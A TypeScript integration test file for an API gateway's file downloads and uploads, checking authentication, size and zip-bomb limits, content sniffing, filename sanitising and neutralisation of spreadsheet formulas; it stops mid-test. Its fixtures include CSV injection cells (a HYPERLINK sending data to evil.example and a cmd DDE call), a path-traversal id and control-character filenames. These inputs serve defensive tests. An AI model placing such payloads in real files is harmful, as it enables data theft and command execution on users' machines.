import { subscribe } from 'node:diagnostics_channel';
import { createServer, type Server } from 'node:http';
import type { Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import express from 'express';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { sharedEmulator, type SharedEmulator } from './shared-stack.js';
import type { AuditEvent } from '../audit/audit-plugin.js';
import { loadConfig } from '../load-config.js';
import { defineDownload, defineUpload } from '../files/index.js';
import {
  FORM_OVERHEAD_BYTES,
  MAX_FIELD_BYTES,
  MAX_FIELDS,
  MAX_FILE_NAME_LENGTH,
} from '../files/multipart.js';
import { SNIFF_BYTES } from '../files/sniff.js';
import { startGateway, type RunningGateway } from '../index.js';
import { problemMessage } from '../limits/input-guard.js';
import { createLogger } from '../logger.js';
import { instantParam } from '../shared/dates.js';
import { startTracing } from '../telemetry/tracing.js';
import { rawRequest, type RawRequest } from './raw-http.js';

/**
 * The file capability over HTTP with real signed tokens: a gateway with test routes in front of a small upstream
 * that records every call it gets, so each refusal is shown to cost 0 upstream calls.
 */

interface UpstreamCall {
  method: string;
  path: string;
  headers: Record<string, string | string[] | undefined>;
  fields?: Record<string, string>;
  file?: { name: string; size: number; text: string };
}

// As main.ts does: the SDK without an exporter, so the W3C trace context is propagated upstream.
startTracing({ OTEL_SDK_DISABLED: undefined });

const CSV = 'id,monto\n1,100.50\n2,20.00\n';
const XLSX_HEAD = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]);
const UPLOAD_LIMIT = 64 * 1024;
/** A route's limit for files that come in many chunks (a socket read is at most 64 KiB). */
const LARGE_UPLOAD_LIMIT = 2 * 1024 * 1024;
const ZIP_LIMITS = { maxEntries: 20, maxUncompressedBytes: 8 * 1024 * 1024, maxRatio: 100 };
/** What a service may write in a CSV: cells a spreadsheet would run. */
const FORMULAS_CSV =
  'id,pagador,monto\r\n' +
  '1,"=HYPERLINK(""http://evil.example/?d=""&A1,""Ver detalle"")",-100.50\r\n' +
  "2,+cmd|' /C calc'!A0,20.00\r\n" +
  '3,@SUM(1+1),30.00\r\n';
const WEB_ORIGIN = 'http://localhost:5173';

let upstream: Server;
let upstreamUrl: string;
const calls: UpstreamCall[] = [];
let emulator: SharedEmulator;
let gateway: RunningGateway;
const logLines: string[] = [];
let adminToken: string;
let operadorToken: string;
let consultaToken: string;

function startUpstream(): Promise<void> {
  const app = express();
  app.get('/files/:name', (req, res) => {
    calls.push({ method: 'GET', path: req.path, headers: req.headers });
    const bytes = Buffer.from(CSV.repeat(200));
    res.setHeader('content-type', 'text/csv; charset=utf-8');
    res.setHeader('content-length', String(bytes.length));
    res.setHeader('content-disposition', 'attachment; filename="upstream-name.csv"');
    res.end(bytes);
  });
  app.get('/broken', (req, res) => {
    calls.push({ method: 'GET', path: req.path, headers: req.headers });
    res.status(500).json({ code: 'internal_error', extended_code: 'boom', message: 'stack at x.js:1' });
  });
  app.get('/missing', (req, res) => {
    calls.push({ method: 'GET', path: req.path, headers: req.headers });
    res.status(404).json({ code: 'not_found', extended_code: 'file_not_found', message: 'no' });
  });
  app.get('/formulas.csv', (req, res) => {
    calls.push({ method: 'GET', path: req.path, headers: req.headers });
    res.setHeader('content-type', 'text/csv; charset=utf-8');
    res.end(FORMULAS_CSV);
  });
  app.get('/reset', (req, res) => {
    calls.push({ method: 'GET', path: req.path, headers: req.headers });
    // Half the declared file, then the connection is reset.
    res.setHeader('content-type', 'text/csv; charset=utf-8');
    res.setHeader('content-length', '100000');
    res.write(CSV.repeat(100), () => res.socket?.resetAndDestroy());
  });
  // Answers 200 and fails before the file's first byte: reset, silent, or reset inside the CSV's first line.
  app.get('/answers-then-resets', (req, res) => {
    calls.push({ method: 'GET', path: req.path, headers: req.headers });
    res.setHeader('content-type', 'text/csv; charset=utf-8');
    res.flushHeaders();
    setTimeout(() => res.socket?.resetAndDestroy(), 50);
  });
  app.get('/answers-then-stalls', (req, res) => {
    calls.push({ method: 'GET', path: req.path, headers: req.headers });
    res.setHeader('content-type', 'text/csv; charset=utf-8');
    res.flushHeaders();
  });
  app.get('/first-line-then-resets', (req, res) => {
    calls.push({ method: 'GET', path: req.path, headers: req.headers });
    res.setHeader('content-type', 'text/csv; charset=utf-8');
    res.write('id,mon', () => setTimeout(() => res.socket?.resetAndDestroy(), 50));
  });
  app.get('/stalled', (req) => {
    calls.push({ method: 'GET', path: req.path, headers: req.headers });
    // Never answers: the gateway's read timeout ends it.
  });
  app.post('/upload', async (req, res) => {
    const form = await new Response(Readable.toWeb(req) as ReadableStream, {
      headers: { 'content-type': req.headers['content-type']! },
    }).formData();
    const fields: Record<string, string> = {};
    let file: UpstreamCall['file'];
    for (const [name, value] of form.entries()) {
      if (typeof value === 'string') fields[name] = value;
      else file = { name: value.name, size: value.size, text: await value.text() };
    }
    calls.push({ method: 'POST', path: req.path, headers: req.headers, fields, ...(file ? { file } : {}) });
    res.status(201).json({ id: 'imp-1', status: 'pending', file_name: file?.name });
  });
  upstream = createServer(app);
  return new Promise((resolve) =>
    upstream.listen(0, '127.0.0.1', () => {
      upstreamUrl = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
      resolve();
    }),
  );
}

beforeAll(async () => {
  [emulator] = await Promise.all([sharedEmulator(), startUpstream()]);
  const base = loadConfig({ STUBS_URL: upstreamUrl });
  gateway = await startGateway(
    {
      ...base,
      port: 0,
      host: '127.0.0.1',
      keycloakIssuer: emulator.issuer,
      keycloakJwksUrl: emulator.jwksUrl,
      corsOrigins: [WEB_ORIGIN],
      upstreamTimeoutMs: 2000,
      zipLimits: ZIP_LIMITS,
      // Every refusal audited one by one: the tests below count them (the budget is refusal-lines.test.ts').
      refusalLinesPerMinute: 1_000_000,
      // The test profile's namespaces: x-test-namespace forwarded (its test below; off, test-namespaces.integration).
      testNamespaces: true,
      services: { ...base.services, withdraw: upstreamUrl, import: upstreamUrl },
    },
    {
      logger: createLogger('warn', (line) => logLines.push(line)),
      fileRoutes: [
        defineDownload({
          route: '/prueba/:id/:format',
          requires: ['WITHDRAW_DOWNLOAD', 'EXPORT_SHOW'],
          params: { format: ['csv', 'xlsx'] },
          query: { desde: instantParam },
          upstream: ({ params }) => ({ service: 'withdraw', path: `/files/${params.id}.${params.format}` }),
          fileName: ({ params }) => `retiro-${params.id}.${params.format}`,
        }),
        defineDownload({
          route: '/sin-nombre',
          requires: ['EXPORT_SHOW'],
          upstream: () => ({ service: 'withdraw', path: '/files/x' }),
        }),
        defineDownload({
          route: '/roto',
          requires: ['EXPORT_SHOW'],
          upstream: () => ({ service: 'withdraw', path: '/broken' }),
        }),
        defineDownload({
          route: '/falta',
          requires: ['EXPORT_SHOW'],
          upstream: () => ({ service: 'withdraw', path: '/missing' }),
        }),
        defineDownload({
          route: '/formulas',
          requires: ['EXPORT_SHOW'],
          upstream: () => ({ service: 'withdraw', path: '/formulas.csv' }),
          fileName: () => 'pagos.csv',
        }),
        defineDownload({
          route: '/cortado',
          requires: ['EXPORT_SHOW'],
          upstream: () => ({ service: 'withdraw', path: '/reset' }),
        }),
        ...['answers-then-resets', 'answers-then-stalls', 'first-line-then-resets'].map((path) =>
          defineDownload({
            route: `/${path}`,
            requires: ['EXPORT_SHOW'],
            upstream: () => ({ service: 'withdraw', path: `/${path}` }),
            fileName: () => 'pagos.csv',
          }),
        ),
        defineDownload({
          route: '/lento',
          requires: ['EXPORT_SHOW'],
          upstream: () => ({ service: 'withdraw', path: '/stalled' }),
        }),
        ...(
          [
            ['/subidas', UPLOAD_LIMIT],
            ['/subidas-grandes', LARGE_UPLOAD_LIMIT],
          ] as const
        ).map(([route, maxBytes]) =>
          defineUpload({
            route,
            requires: ['IMPORT_REQUEST'],
            maxBytes,
            accept: ['csv', 'xlsx'],
            fields: ['collector_id', 'match_by_payer'],
            upstream: () => ({ service: 'import', path: '/upload' }),
          }),
        ),
      ],
    },
  );
  const tokens = await Promise.all(['admin', 'operador', 'consulta'].map((u) => emulator.accessTokenFor(u)));
  [adminToken, operadorToken, consultaToken] = tokens as [string, string, string];
});
afterAll(async () => {
  await gateway?.close();
  await new Promise((resolve) => upstream?.close(resolve));
});
beforeEach(() => {
  calls.length = 0;
  logLines.length = 0;
});

const auditEvents = () =>
  logLines
    .map((line) => JSON.parse(line) as Record<string, unknown>)
    .filter((entry) => entry.msg === 'audit') as unknown as AuditEvent[];

const get = (path: string, token?: string | null, headers: Record<string, string> = {}) =>
  fetch(`${gateway.url}/files${path}`, {
    headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers },
  });

function uploadForm(
  name: string,
  content: string | Uint8Array,
  fields: Record<string, string> = {},
): FormData {
  const form = new FormData();
  for (const [key, value] of Object.entries(fields)) form.append(key, value);
  form.append('file', new Blob([content]), name);
  return form;
}

const upload = (body: RequestInit['body'], token: string | null = adminToken, init: RequestInit = {}) =>
  fetch(`${gateway.url}/files/subidas`, {
    method: 'POST',
    body,
    ...init,
    headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...init.headers },
  });

async function expectError(response: Response, status: number, code: string, message: string | RegExp) {
  expect(response.status).toBe(status);
  expect(response.headers.get('content-type')).toMatch(/^application\/json/);
  const body = (await response.json()) as { error: { code: string; message: string } };
  expect(body.error.code).toBe(code);
  if (typeof message === 'string') expect(body.error.message).toBe(message);
  else expect(body.error.message).toMatch(message);
  expect(JSON.stringify(body)).not.toMatch(/stack|x\.js|node_modules/);
}

describe('downloads', () => {
  it('streams the upstream file with its type, length and the route’s file name, token and trace forwarded', async () => {
    const traceparent = '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01';
    const response = await get('/prueba/42/csv', adminToken, { traceparent });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="retiro-42.csv"; filename*=UTF-8''retiro-42.csv`,
    );
    const text = await response.text();
    expect(text).toBe(CSV.repeat(200));
    // A CSV goes through the formula neutraliser: its length is not announced.
    expect(response.headers.get('content-length')).toBeNull();
    expect(calls).toHaveLength(1);
    expect(calls[0]!.path).toBe('/files/42.csv');
    expect(calls[0]!.headers.authorization).toBe(`Bearer ${adminToken}`);
    expect(calls[0]!.headers.source).toBe('backoffice');
    expect(calls[0]!.headers['x-request-id']).toBe(response.headers.get('x-request-id'));
    // The browser's trace continues upstream, with the gateway's own span as parent.
    expect(String(calls[0]!.headers.traceparent)).toMatch(
      /^00-0af7651916cd43dd8448eb211c80319c-[0-9a-f]{16}-01$/,
    );
    expect(String(calls[0]!.headers.traceparent)).not.toContain('b7ad6b7169203331');
    expect(auditEvents()).toEqual([
      expect.objectContaining({
        operation: 'GET /files/prueba/:id/:format',
        user: 'admin',
        permissionUsed: 'WITHDRAW_DOWNLOAD',
        targetIds: ['42'],
        result: 'success',
        errorCode: null,
      }),
    ]);
  });

  it('any of the permissions is enough (operador holds EXPORT_SHOW only)', async () => {
    const response = await get('/prueba/7/xlsx', operadorToken);
    expect(response.status).toBe(200);
    await response.arrayBuffer();
    expect(auditEvents()[0]).toMatchObject({ user: 'operador', permissionUsed: 'EXPORT_SHOW' });
  });

  it('keeps the upstream’s file name when the route names none', async () => {
    const response = await get('/sin-nombre', adminToken);
    expect(response.headers.get('content-disposition')).toContain('filename="upstream-name.csv"');
    await response.text();
  });

  it('without a token, or with a bad one: 401 in Spanish, no upstream call, audited as denied', async () => {
    await expectError(await get('/prueba/1/csv'), 401, 'UNAUTHENTICATED', /Sesión inválida/);
    await expectError(await get('/prueba/1/csv', 'a.b.c'), 401, 'UNAUTHENTICATED', /Sesión inválida/);
    expect(calls).toHaveLength(0);
    expect(auditEvents().map((e) => [e.result, e.user])).toEqual([
      ['denied', null],
      ['denied', null],
    ]);
  });

  it('without the permission: 403 in Spanish and no upstream call', async () => {
    await expectError(
      await get('/prueba/1/csv', consultaToken),
      403,
      'FORBIDDEN',
      'No tiene permisos para realizar esta acción.',
    );
    expect(calls).toHaveLength(0);
    expect(auditEvents()).toEqual([
      expect.objectContaining({
        user: 'consulta',
        result: 'denied',
        errorCode: 'FORBIDDEN',
        permissionUsed: null,
      }),
    ]);
  });

  it('a parameter outside its values, or an id that is not one: 400 in Spanish and no upstream call', async () => {
    await expectError(
      await get('/prueba/1/pdf', adminToken),
      400,
      'BAD_REQUEST',
      'El parámetro "format" no es válido: debe ser csv o xlsx.',
    );
    await expectError(
      await get('/prueba/..%2F..%2Fadmin/csv', adminToken),
      400,
      'BAD_REQUEST',
      'El parámetro "id" no es válido.',
    );
    expect(calls).toHaveLength(0);
    expect(auditEvents().map((e) => e.result)).toEqual(['failed', 'failed']);
  });

  it('a date parameter on a day that does not exist, or in the year 0000: 400 in Spanish, no upstream call', async () => {
    for (const desde of ['2026-02-31T00:00:00Z', '0000-01-01T00:00:00Z', '2026-13-40T00:00:00Z']) {
      await expectError(
        await get(`/prueba/1/csv?desde=${encodeURIComponent(desde)}`, adminToken),
        400,
        'BAD_REQUEST',
        'El parámetro "desde" no es válido.',
      );
    }
    expect(calls).toHaveLength(0);
  });

  it('forwards the caller’s test namespace (x-test-namespace) as it forwards the request id; a malformed one not', async () => {
    await get('/prueba/42/csv', adminToken, { 'x-test-namespace': 'suite-a.1' });
    await get('/prueba/42/csv', adminToken);
    await get('/prueba/42/csv', adminToken, { 'x-test-namespace': 'con espacio' });
    expect(calls.map((call) => call.headers['x-test-namespace'])).toEqual([
      'suite-a.1',
      undefined,
      undefined,
    ]);
  });

  it('an upstream 500 is a 502 with the generic Spanish text and the request id (nothing of the upstream’s codes or message)', async () => {
    const response = await get('/roto', adminToken);
    const requestId = response.headers.get('x-request-id');
    expect(await response.clone().json()).toEqual({
      error: {
        code: 'UPSTREAM_ERROR',
        message: `Ups! Ocurrió un error inesperado. Referencia: ${requestId}.`,
      },
    });
    await expectError(response, 502, 'UPSTREAM_ERROR', /^Ups! Ocurrió un error inesperado/);
    expect(calls).toHaveLength(1);
    // The codes stay in the log.
    expect(logLines.map((line) => JSON.parse(line) as Record<string, unknown>)).toContainEqual(
      expect.objectContaining({ msg: 'upstream fault', requestId, status: 500, extendedCode: 'boom' }),
    );
    expect(auditEvents()[0]).toMatchObject({ result: 'failed', errorCode: 'UPSTREAM_ERROR' });
  });

  it('an upstream 404 is a 404 in Spanish', async () => {
    await expectError(await get('/falta', adminToken), 404, 'NOT_FOUND', /^No se encontró/);
  });

  it('an upstream that does not answer in time is a 504', async () => {
    await expectError(await get('/lento', adminToken), 504, 'UPSTREAM_TIMEOUT', /no respondió a tiempo/);
    expect(auditEvents()[0]).toMatchObject({ result: 'unknown', errorCode: 'UPSTREAM_TIMEOUT' });
  });

  it('a CSV whose upstream answers and then fails before its first byte: an error status in Spanish, never a 200', async () => {
    const generic = /^Ups! Ocurrió un error inesperado\. Referencia: [0-9a-f-]{36}\.$/;
    await expectError(await get('/answers-then-resets', adminToken), 502, 'UPSTREAM_ERROR', generic);
    await expectError(await get('/first-line-then-resets', adminToken), 502, 'UPSTREAM_ERROR', generic);
    // Silent after its headers: the read timeout (2 s here) ends it as a timeout.
    const stalled = await get('/answers-then-stalls', adminToken);
    expect(stalled.status).toBe(504);
    expect(((await stalled.json()) as { error: { code: string } }).error.code).toBe('UPSTREAM_TIMEOUT');
    expect(auditEvents().map((e) => e.result)).toEqual(['failed', 'failed', 'unknown']);
  });

  it('an unknown path under /files: 401 without token, 404 with one', async () => {
    await expectError(await get('/nada'), 401, 'UNAUTHENTICATED', /Sesión/);
    await expectError(
      await get('/nada', adminToken),
      404,
      'NOT_FOUND',
      'No se encontró el archivo solicitado.',
    );
    expect(calls).toHaveLength(0);
  });

  it('CORS: the web origin may call /files and read the file name', async () => {
    const preflight = await fetch(`${gateway.url}/files/prueba/1/csv`, {
      method: 'OPTIONS',
      headers: {
        origin: WEB_ORIGIN,
        'access-control-request-method': 'GET',
        'access-control-request-headers': 'authorization,traceparent',
      },
    });
    expect(preflight.status).toBe(204);
    expect(preflight.headers.get('access-control-allow-origin')).toBe(WEB_ORIGIN);
    const response = await get('/prueba/1/csv', adminToken, { origin: WEB_ORIGIN });
    expect(response.headers.get('access-control-expose-headers')).toContain('content-disposition');
    await response.text();
  });
});

describe('uploads', () => {
  it('forwards the file and the declared fields as multipart with the same token, answers the upstream JSON', async () => {
    const response = await upload(
      uploadForm('pagos.csv', CSV, { collector_id: '15', match_by_payer: 'true', other: 'x' }),
    );
    expect(response.status).toBe(201);
    expect(await response.json()).toEqual({ id: 'imp-1', status: 'pending', file_name: 'pagos.csv' });
    expect(calls).toHaveLength(1);
    expect(calls[0]!.headers.authorization).toBe(`Bearer ${adminToken}`);
    expect(calls[0]!.fields).toEqual({ collector_id: '15', match_by_payer: 'true' });
    expect(calls[0]!.file).toEqual({ name: 'pagos.csv', size: CSV.length, text: CSV });
    expect(auditEvents()).toEqual([
      expect.objectContaining({
        operation: 'POST /files/subidas',
        user: 'admin',
        permissionUsed: 'IMPORT_REQUEST',
        targetIds: ['15'],
        result: 'success',
      }),
    ]);
  });

  it('accepts an xlsx whose content is a zip archive within the zip limits', async () => {
    const xlsx = zipSync({
      '[Content_Types].xml': strToU8('<Types/>'),
      'xl/workbook.xml': strToU8('<workbook/>'),
    });
    const response = await upload(uploadForm('pagos.xlsx', xlsx));
    expect(response.status).toBe(201);
    expect(calls[0]!.file?.size).toBe(xlsx.length);
  });

  it('a zip bomb, too many entries, or a zip that cannot be read: refused in Spanish, 0 upstream calls', async () => {
    const bomb = zipSync({ 'xl/worksheets/sheet1.xml': new Uint8Array(ZIP_LIMITS.maxUncompressedBytes + 1) });
    expect(bomb.length).toBeLessThan(UPLOAD_LIMIT);
    await expectError(
      await upload(uploadForm('bomba.xlsx', bomb)),
      413,
      'PAYLOAD_TOO_LARGE',
      'El archivo XLSX descomprimido supera el tamaño máximo permitido (8 MB).',
    );
    const many = zipSync(
      Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`x/${i}.xml`, strToU8('<x/>')])),
    );
    await expectError(
      await upload(uploadForm('partes.xlsx', many)),
      413,
      'PAYLOAD_TOO_LARGE',
      'El archivo XLSX tiene demasiadas partes (máximo 20).',
    );
    await expectError(
      await upload(uploadForm('roto.xlsx', Buffer.concat([XLSX_HEAD, Buffer.alloc(100)]))),
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'El archivo XLSX no es válido: no se puede leer su contenido - unreadable_file',
    );
    expect(calls).toHaveLength(0);
    expect(auditEvents().map((e) => e.errorCode)).toEqual([
      'PAYLOAD_TOO_LARGE',
      'PAYLOAD_TOO_LARGE',
      'UNSUPPORTED_MEDIA_TYPE',
    ]);
  });

  it('over the limit, declared in Content-Length: 413 in Spanish before reading, no upstream call', async () => {
    const response = await upload(uploadForm('pagos.csv', 'x'.repeat(UPLOAD_LIMIT + FORM_OVERHEAD_BYTES)));
    await expectError(
      response,
      413,
      'PAYLOAD_TOO_LARGE',
      'El archivo supera el tamaño máximo permitido (64 KB).',
    );
    expect(calls).toHaveLength(0);
    expect(auditEvents()[0]).toMatchObject({ result: 'failed', errorCode: 'PAYLOAD_TOO_LARGE' });
  });

  it('over the limit while streaming (no Content-Length): 413, no upstream call', async () => {
    const encoded = new Response(uploadForm('pagos.csv', 'y'.repeat(UPLOAD_LIMIT + 10)));
    const contentType = encoded.headers.get('content-type')!;
    const response = await upload(encoded.body!, adminToken, {
      headers: { 'content-type': contentType },
      duplex: 'half',
    } as RequestInit);
    await expectError(response, 413, 'PAYLOAD_TOO_LARGE', /tamaño máximo/);
    expect(calls).toHaveLength(0);
  });

  it('a file of another extension: 415 in Spanish, no upstream call', async () => {
    await expectError(
      await upload(uploadForm('pagos.pdf', '%PDF-1.4')),
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'El tipo de archivo no es válido: se aceptan archivos CSV o XLSX - invalid_file_type',
    );
    expect(calls).toHaveLength(0);
  });

  it('content that does not match its extension (sniffed): 415, no upstream call', async () => {
    await expectError(
      await upload(uploadForm('pagos.xlsx', CSV)),
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      /CSV o XLSX/,
    );
    await expectError(
      await upload(uploadForm('pagos.csv', Buffer.concat([XLSX_HEAD, Buffer.alloc(10)]))),
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      /CSV o XLSX/,
    );
    expect(calls).toHaveLength(0);
  });

  it('no file, or not multipart: Spanish refusals, no upstream call', async () => {
    const noFile = new FormData();
    noFile.append('collector_id', '1');
    await expectError(await upload(noFile), 400, 'BAD_REQUEST', 'Debe adjuntar un archivo.');
    await expectError(
      await upload(JSON.stringify({ a: 1 }), adminToken, { headers: { 'content-type': 'application/json' } }),
      415,
      'UNSUPPORTED_MEDIA_TYPE',
      'El archivo debe enviarse como multipart/form-data.',
    );
    await expectError(
      await upload(uploadForm('vacio.csv', '')),
      400,
      'BAD_REQUEST',
      'El archivo está vacío.',
    );
    expect(calls).toHaveLength(0);
  });

  it('a declared text field with a NUL: 400 in Spanish naming it, no upstream call', async () => {
    await expectError(
      await upload(uploadForm('pagos.csv', CSV, { collector_id: '15\u0000' })),
      400,
      'BAD_REQUEST',
      problemMessage('nul', 'collector_id'),
    );
    expect(calls).toHaveLength(0);
  });

  it('a declared text field is forwarded without bidi controls or other invisible format characters', async () => {
    const answer = await upload(uploadForm('pagos.csv', CSV, { match_by_payer: 's\u202Ei\u200B' }));
    expect(answer.status, await answer.clone().text()).toBe(201);
    expect(calls.at(-1)?.fields?.match_by_payer).toBe('si');
  });

  it('without the permission or a token: refused before reading, no upstream call', async () => {
    await expectError(
      await upload(uploadForm('pagos.csv', CSV), operadorToken),
      403,
      'FORBIDDEN',
      /No tiene permisos/,
    );
    await expectError(await upload(uploadForm('pagos.csv', CSV), null), 401, 'UNAUTHENTICATED', /Sesión/);
    expect(calls).toHaveLength(0);
    expect(auditEvents().map((e) => [e.user, e.result])).toEqual([
      ['operador', 'denied'],
      [null, 'denied'],
    ]);
  });
});

describe('uploads in many chunks', () => {
  /** A CSV of 1 MiB whose every line differs: a chunk lost, repeated or out of order shows. */
  const LARGE_CSV = Array.from(
    { length: 16_384 },
    (_, i) => `${String(i).padStart(8, '0')},${'x'.repeat(54)}`,
  )
    .join('\n')
    .padEnd(1024 * 1024, 'y');
  const largeUpload = (form: FormData) =>
    fetch(`${gateway.url}/files/subidas-grandes`, {
      method: 'POST',
      body: form,
      headers: { authorization: `Bearer ${adminToken}` },
    });

  /** The lengths of the buffers Buffer.concat made for the gateway's files code while `run` ran. */
  async function filesConcatLengths(run: () => Promise<void>): Promise<number[]> {
    const concat = Buffer.concat.bind(Buffer);
    const lengths: number[] = [];
    const spy = vi.spyOn(Buffer, 'concat').mockImplementation((list, length) => {
      const joined = concat(list, length);
      if (/[\\/]src[\\/]files[\\/]/.test(new Error().stack ?? '')) lengths.push(joined.length);
      return joined;
    });
    try {
      await run();
    } finally {
      spy.mockRestore();
    }
    return lengths;
  }

  it('the service receives the very bytes uploaded, as fetch frames a FormData, with its length', async () => {
    const response = await largeUpload(uploadForm('grande.csv', LARGE_CSV, { collector_id: '15' }));
    expect(response.status).toBe(201);
    expect(calls).toHaveLength(1);
    expect(calls[0]!.fields).toEqual({ collector_id: '15' });
    expect(calls[0]!.file).toEqual({ name: 'grande.csv', size: LARGE_CSV.length, text: LARGE_CSV });
    expect(calls[0]!.headers['content-type']).toMatch(
      /^multipart\/form-data; boundary=----formdata-undici-0\d{11}$/,
    );
    expect(Number(calls[0]!.headers['content-length'])).toBeGreaterThan(LARGE_CSV.length);
    expect(calls[0]!.headers['transfer-encoding']).toBeUndefined();
  });

  it('an xlsx in many chunks: checked whole, forwarded as it came', async () => {
    // Stored, not deflated: about 300 KB of archive whatever its content.
    const sheet = Uint8Array.from({ length: 300_000 }, (_, i) => (i * 7919) % 251);
    const xlsx = zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'xl/sheet.bin': sheet }, { level: 0 });
    const response = await largeUpload(uploadForm('grande.xlsx', xlsx));
    expect(response.status).toBe(201);
    expect(calls[0]!.file).toEqual({
      name: 'grande.xlsx',
      size: xlsx.length,
      text: new TextDecoder().decode(xlsx),
    });
  });

  it('a CSV is never joined into one buffer: what the files code joins is its first bytes and chunks’ seams', async () => {
    const lengths = await filesConcatLengths(async () => {
      expect((await largeUpload(uploadForm('grande.csv', LARGE_CSV))).status).toBe(201);
    });
    expect(calls[0]!.file?.text).toBe(LARGE_CSV);
    // The delimiter counter's seam, once a request chunk: the body came in many.
    expect(lengths.length).toBeGreaterThan(16);
    expect(Math.max(...lengths)).toBeLessThanOrEqual(SNIFF_BYTES);
  });
});

describe('file names and limits', () => {
  it('reads the file name as UTF-8 and forwards it so: pagos_año_cuotas.csv', async () => {
    const response = await upload(uploadForm('pagos_año_cuotas.csv', CSV));
    expect(response.status).toBe(201);
    expect(calls[0]!.file?.name).toBe('pagos_año_cuotas.csv');
    expect(await response.json()).toMatchObject({ file_name: 'pagos_año_cuotas.csv' });
  });

  it('control characters in the name are refused in every form of the header; nothing upstream', async () => {
    const named = (disposition: string) =>
      rawUpload(
        Buffer.from(
          `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; ${disposition}\r\n` +
            `Content-Type: text/csv\r\n\r\n${CSV}\r\n--${BOUNDARY}--`,
        ),
      );
    // Raw in the header (busboy reads the part header as malformed) or encoded in filename* (RFC 5987).
    for (const disposition of [
      'filename="x\ty.csv"',
      'filename="x\x01y.csv"',
      'filename="x\x7fy.csv"',
      `filename*=UTF-8''x%0D%0Ay.csv`,
      `filename*=utf-8''x%00y.csv`,
      `filename*=ISO-8859-1''x%85y.csv`,
      `filename*=UTF-8''x%E2%80%AEvsc.csv`,
      `filename="a.csv"; filename*=UTF-8''x%1By.csv`,
    ]) {
      const answer = await named(disposition);
      expect(answer.status, disposition).toBe(400);
      expect(errorBody(answer.text).error.message, disposition).toMatch(
        /^El (nombre del archivo no es válido: contiene caracteres de control|formulario enviado no es válido)\.$/,
      );
      if (disposition.includes('%')) {
        expect(errorBody(answer.text).error.message).toMatch(/caracteres de control/);
      }
    }
    expect(calls).toHaveLength(0);
    expect((await named(`filename*=UTF-8''pagos_a%C3%B1o.csv`)).status).toBe(201);
    expect(calls[0]!.file?.name).toBe('pagos_año.csv');
  });

  it(`a name of ${MAX_FILE_NAME_LENGTH} characters is accepted, a longer one (5,000) refused`, async () => {
    const longest = `${'ñ'.repeat(MAX_FILE_NAME_LENGTH - 4)}.csv`;
    expect((await upload(uploadForm(longest, CSV))).status).toBe(201);
    expect(calls[0]!.file?.name).toBe(longest);
    await expectError(
      await upload(uploadForm(`${'a'.repeat(MAX_FILE_NAME_LENGTH - 3)}.csv`, CSV)),
      400,
      'BAD_REQUEST',
      `El nombre del archivo es demasiado largo (máximo ${MAX_FILE_NAME_LENGTH} caracteres).`,
    );
    await expectError(await upload(uploadForm(`${'a'.repeat(4996)}.csv`, CSV)), 400, 'BAD_REQUEST', /largo/);
    expect(calls).toHaveLength(1);
  });

  it('the limits are inclusive: a file of exactly the limit, a field of exactly its limit, exactly the most fields', async () => {
    const exact = `${'a,b\n'.repeat(UPLOAD_LIMIT / 4)}`;
    expect(exact.length).toBe(UPLOAD_LIMIT);
    expect((await upload(uploadForm('exacto.csv', exact))).status).toBe(201);
    expect(calls[0]!.file?.size).toBe(UPLOAD_LIMIT);
    await expectError(await upload(uploadForm('mas.csv', `${exact}x`)), 413, 'PAYLOAD_TOO_LARGE', /64 KB/);

    const longestField = 'x'.repeat(MAX_FIELD_BYTES);
    expect((await upload(uploadForm('pagos.csv', CSV, { collector_id: longestField }))).status).toBe(201);
    expect(calls[1]!.fields?.collector_id).toBe(longestField);
    await expectError(
      await upload(uploadForm('pagos.csv', CSV, { collector_id: `${longestField}x` })),
      400,
      'BAD_REQUEST',
      'El formulario enviado no es válido.',
    );

    // Every field at its largest, and a file at its largest: the declared length holds it all.
    const most = Object.fromEntries(
      Array.from({ length: MAX_FIELDS }, (_, i) => [i === 0 ? 'collector_id' : `campo_${i}`, longestField]),
    );
    expect((await upload(uploadForm('exacto.csv', exact, most))).status).toBe(201);
    await expectError(
      await upload(uploadForm('pagos.csv', CSV, { ...most, uno_mas: '1' })),
      400,
      'BAD_REQUEST',
      'El formulario enviado no es válido.',
    );
    expect(calls).toHaveLength(3);
  });
});

/** The security probe's upload, complete: a field and a CSV file; the body ends with the closing delimiter. */
const BOUNDARY = 'XyZ';
const PROBE_BODY = Buffer.from(
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="collector_id"\r\n\r\n10001\r\n` +
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\nContent-Type: text/csv\r\n\r\n` +
    `external_transaction_id,amount\r\nA1,10\r\n\r\n--${BOUNDARY}--`,
);

const rawUpload = (
  body: Buffer,
  options: Partial<RawRequest> & { length?: number; token?: string | null } = {},
) =>
  rawRequest({
    url: gateway.url,
    path: '/files/subidas',
    body,
    ...options,
    headers: {
      ...(options.token !== null ? { authorization: `Bearer ${options.token ?? adminToken}` } : {}),
      'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
      'content-length': String(options.length ?? body.length),
      connection: 'close',
      ...options.headers,
    },
  });

const errorBody = (text: string) =>
  JSON.parse(text.slice(text.indexOf('\r\n\r\n') + 4)) as { error: { code: string; message: string } };

describe('uploads that end early, are malformed or whose client leaves', { timeout: 120_000 }, () => {
  it('the probe’s body, cut at every byte offset (it ends there): each a 400 in Spanish, no upstream call', async () => {
    expect((await rawUpload(PROBE_BODY)).status).toBe(201);
    expect(calls).toHaveLength(1);
    calls.length = 0;
    logLines.length = 0;
